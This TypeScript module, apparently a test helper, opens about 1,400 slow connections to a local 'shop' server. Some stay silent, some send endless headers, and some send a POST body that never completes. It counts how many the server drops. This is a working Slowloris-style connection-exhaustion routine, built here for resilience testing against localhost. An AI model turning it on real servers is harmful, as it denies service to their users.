import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

/** Clients that hold connections and give nothing for them. */
export interface SlowClients {
  /** how many connections the shop has ended by itself */
  ended(): number;
  readonly count: number;
  stop(): void;
}

const KINDS = {
  /** connected, and silent */
  idle: { count: 1000, begin: '', drip: '' },
  /** one header after another, never the last */
  headers: { count: 200, begin: 'GET / HTTP/1.1\r\nhost: shop\r\n', drip: 'x-a: b\r\n' },
  /** a body that never ends */
  body: {
    count: 200,
    begin: 'POST /api/order HTTP/1.1\r\nhost: shop\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n',
    drip: ' ',
  },
};
const DRIP_EVERY_MS = 500;
const AT_ONCE = 100;

export async function attack(port: number): Promise<SlowClients> {
  const open: { socket: Socket; drip: string }[] = [];
  let ended = 0;
  for (const { count, begin, drip } of Object.values(KINDS)) {
    for (let made = 0; made < count; made += AT_ONCE) {
      await Promise.all(
        Array.from({ length: Math.min(AT_ONCE, count - made) }, async () => {
          const socket = connect(port, '127.0.0.1');
          socket.on('error', () => {}).once('close', () => ended++);
          await once(socket, 'connect');
          socket.resume().write(begin);
          open.push({ socket, drip });
        }),
      );
    }
  }
  const dripping = setInterval(() => {
    for (const { socket, drip } of open) if (drip && socket.writable) socket.write(drip);
  }, DRIP_EVERY_MS);
  return {
    ended: () => ended,
    count: open.length,
    stop() {
      clearInterval(dripping);
      for (const { socket } of open) socket.destroy();
    },
  };
}
